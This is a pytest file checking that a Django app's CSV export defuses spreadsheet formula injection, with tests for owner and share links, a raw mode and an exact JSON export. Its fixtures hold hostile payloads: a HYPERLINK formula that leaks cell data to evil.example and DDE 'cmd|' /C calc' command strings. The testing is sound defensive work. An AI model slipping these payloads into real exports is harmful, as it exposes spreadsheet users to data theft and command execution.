"""The CSV export is spreadsheet-safe by default (issue 9, item 3): a text cell that a spreadsheet would run
as a formula gets a leading "'", through the owner's link and a share link alike; ?raw=1 gives the data
unchanged; numbers stay numbers; the JSON export stays exact."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from lensweb.results import services
from lensweb.results.export import FORMULA_STARTS, export_csv, spreadsheet_safe

from .conftest import create_analysis

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
# (token, explanation tokens) per row: every formula start the rule names, in tokens, explanations and
# the logit lens, plus text that merely contains one of them.
HOSTILE = [
    (HYPERLINK, ["+cmd|' /C calc'!A0"]),
    ("@SUM(1+1)*cmd|' /C calc'!A0", ["\tfoo", " bar"]),
    ("\rbar", ["-2+3", "=1"]),
    ("-", ["@me"]),
    (" a=b", [" safe", " +text"]),
]


def hostile_result():
    rows = []
    for position, (token, words) in enumerate(HOSTILE):
        rows.append(
            {
                "position": position,
                "token": token,
                "token_id": 100 + position,
                "explanation": "".join(words),
                "explanation_tokens": words,
                "explanation_token_ids": list(range(len(words))),
                "token_salience": [-0.5] * len(words),
                "mse": 0.5 + position,
                "relative_rmse": 0.25,
                "kl": -0.25 if position == 0 else None,  # a negative number, and "not computed"
                "logit_lens_top": ["=1+1", "ok"] if position == 0 else None,
                "candidates": None,
            }
        )
    metadata = {"lens_id": "tiny", "name": "tiny", "add_current_token": False, "layer": 1, "t_text": 2}
    options = {"best_of_k": 1, "temperature": 1.0, "seed": 42, "salience": True}
    return rows, metadata, {}, options


@pytest.fixture
def hostile(alice):
    return create_analysis(alice, hostile_result(), text="".join(t for t, _ in HOSTILE))


def table(content: bytes) -> list[dict]:
    # newline="": a CR inside a quoted cell is data, not a line end
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_spreadsheet_safe(content: bytes) -> None:
    for line, row in enumerate(table(content), start=2):
        for name, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), (
                f"line {line}, column {name}: {cell!r} would run as a formula"
            )


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_cell_starting_a_formula_gets_a_quote(start):
    assert spreadsheet_safe(f"{start}x") == f"'{start}x"
    assert spreadsheet_safe(f"x{start}") == f"x{start}"  # only the first character counts


def test_numbers_and_other_cells_are_left_alone():
    assert spreadsheet_safe(-0.5) == -0.5 and spreadsheet_safe(-1) == -1
    assert spreadsheet_safe("") == "" and spreadsheet_safe("'=x") == "'=x"
    assert spreadsheet_safe('["=1"]') == '["=1"]'  # a list cell: JSON, starts with "["


def test_owner_csv_escapes_every_formula_cell(client, alice, hostile):
    client.force_login(alice)
    response = client.get(reverse("results:export_csv", args=[hostile.pk]))
    assert response.status_code == 200
    assert_spreadsheet_safe(response.content)
    rows = table(response.content)
    assert [r["token"] for r in rows] == [
        "'" + HYPERLINK,
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'\rbar",
        "'-",
        " a=b",
    ]
    assert [r["explanation"] for r in rows] == [
        "'+cmd|' /C calc'!A0",
        "'\tfoo bar",
        "'-2+3=1",
        "'@me",
        " safe +text",
    ]
    assert rows[0]["logit_lens_top"] == "'=1+1ok"
    # numbers written as numbers stay numbers, negative ones included
    assert rows[0]["kl_divergence"] == "-0.25" and rows[1]["kl_divergence"] == ""  # not computed: empty
    assert json.loads(rows[1]["token_salience"]) == [-0.5, -0.5]
    assert json.loads(rows[1]["explanation_structured"]) == ["\tfoo", " bar"]  # JSON cells: exact


def test_share_link_csv_is_escaped_the_same(client, alice, hostile):
    link = services.do_share(alice, hostile.pk)
    response = client.get(reverse("results:shared_export_csv", args=[link.token]))  # nobody logged in
    assert response.status_code == 200
    assert_spreadsheet_safe(response.content)
    assert table(response.content)[0]["token"] == "'" + HYPERLINK
    client.force_login(alice)
    owners = client.get(reverse("results:export_csv", args=[hostile.pk])).content
    assert response.content == owners


@pytest.mark.parametrize("shared", [False, True])
def test_raw_csv_gives_the_data_unchanged(client, alice, hostile, shared):
    if shared:
        url = reverse("results:shared_export_csv", args=[services.do_share(alice, hostile.pk).token])
    else:
        client.force_login(alice)
        url = reverse("results:export_csv", args=[hostile.pk])
    response = client.get(url + "?raw=1")
    assert response.status_code == 200
    rows = table(response.content)
    assert [r["token"] for r in rows] == [token for token, _ in HOSTILE]
    assert [r["explanation"] for r in rows] == ["".join(words) for _, words in HOSTILE]
    assert response.content == export_csv(hostile, services.rows_of(hostile), raw=True)
    assert client.get(url + "?raw=0").content != response.content  # only raw=1 turns escaping off


def test_json_export_stays_exact(client, alice, hostile):
    link = services.do_share(alice, hostile.pk)
    client.force_login(alice)
    for url in (
        reverse("results:export_json", args=[hostile.pk]),
        reverse("results:shared_export_json", args=[link.token]),
    ):
        data = json.loads(client.get(url).content)["data"]
        assert [r["token"] for r in data] == [token for token, _ in HOSTILE]
        assert [r["explanation_structured"] for r in data] == [words for _, words in HOSTILE]
        assert data[0]["logit_lens_top"] == "=1+1ok" and data[0]["kl_divergence"] == -0.25
